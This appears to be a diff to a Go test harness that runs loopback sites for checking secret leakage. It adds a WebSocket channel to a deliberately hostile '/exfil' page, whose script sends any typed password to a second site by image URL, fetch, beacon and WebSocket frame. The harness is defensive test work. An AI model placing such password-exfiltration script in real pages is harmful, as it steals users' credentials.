@@ -2,6 +2,7 @@ package wire
 
 import (
 	"bytes"
+	"context"
 	"fmt"
 	"html"
 	"io"
@@ -11,6 +12,8 @@ import (
 	"sort"
 	"strings"
 	"sync"
+
+	"github.com/coder/websocket"
 )
 
 // site is a loopback test site that records every request it receives,
@@ -122,19 +125,22 @@ setTimeout(() => { throw new Error("token rejected: " + v.tok); }, 0);
 			e(tok), e(pw), e(card), e(tok), e(url.QueryEscape(pw)), e(url.QueryEscape(tok)), e(card), e(pw+"\n"+tok), tok, pw, card))
 	case "/exfil":
 		// A hostile page on A: whatever is typed into its password field is
-		// sent to site B as an image URL, a fetch body and a beacon.
+		// sent to site B as an image URL, a fetch body, a beacon and a
+		// frame on a WebSocket opened before anything was typed.
 		page(w, "Exfil", fmt.Sprintf(`<h1>Log in</h1>
 <label>Password <input id="pw" type="password"></label>
 <button id="go" type="button">Continue</button>
 <p id="status">waiting</p>
 <script>
 const B = %q;
+const ws = new WebSocket(B.replace(/^http/, "ws") + "/ws");
 function send() {
   const v = document.getElementById("pw").value;
   if (!v) return;
   new Image().src = B + "/img?p=" + encodeURIComponent(v);
   fetch(B + "/fetch", {method: "POST", mode: "no-cors", body: v}).catch(() => {});
   try { navigator.sendBeacon(B + "/beacon", btoa(v)); } catch (e) {}
+  try { ws.send(v); } catch (e) {}
   document.getElementById("status").textContent = "sent";
 }
 document.getElementById("pw").addEventListener("input", send);
@@ -147,8 +153,24 @@ document.getElementById("go").addEventListener("click", send);
 }
 
 // handlerB serves site B, which no secret belongs to: it answers everything
-// with an empty 204 and keeps what it was sent.
+// with an empty 204 and keeps what it was sent, WebSocket frames included.
 func handlerB(s *site, w http.ResponseWriter, r *http.Request) {
+	if r.URL.Path == "/ws" {
+		c, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
+		if err != nil {
+			return
+		}
+		defer c.CloseNow()
+		for {
+			_, msg, err := c.Read(context.Background())
+			if err != nil {
+				return
+			}
+			s.mu.Lock()
+			s.reqs = append(s.reqs, "WS FRAME /ws\n\n"+string(msg))
+			s.mu.Unlock()
+		}
+	}
 	w.Header().Set("Access-Control-Allow-Origin", "*")
 	w.WriteHeader(http.StatusNoContent)
 }
